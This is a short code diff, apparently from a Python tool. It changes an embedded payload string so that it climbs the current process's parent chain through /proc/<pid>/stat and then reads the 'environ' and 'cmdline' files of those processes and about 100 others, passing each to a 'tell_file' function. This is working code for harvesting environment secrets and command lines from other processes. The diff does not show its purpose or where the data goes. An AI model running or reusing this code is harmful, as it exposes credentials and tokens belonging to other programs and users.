@@ -79,7 +79,13 @@ for low, high in ((int(a, 16), int(b, 16)) for a, b in areas):
 """
 _PROCESSES = """
 import glob, os
-for folder in ["/proc/%d" % os.getppid()] + sorted(glob.glob("/proc/[0-9]*"))[:400]:
+def family():
+    number = os.getpid()
+    while number > 0:
+        yield "/proc/%d" % number
+        with open("/proc/%d/stat" % number) as stream:
+            number = int(stream.read().rpartition(")")[2].split()[1])
+for folder in list(family()) + sorted(glob.glob("/proc/[0-9]*"))[:100]:
     for name in ("environ", "cmdline"):
         tell_file(folder + "/" + name)
 """
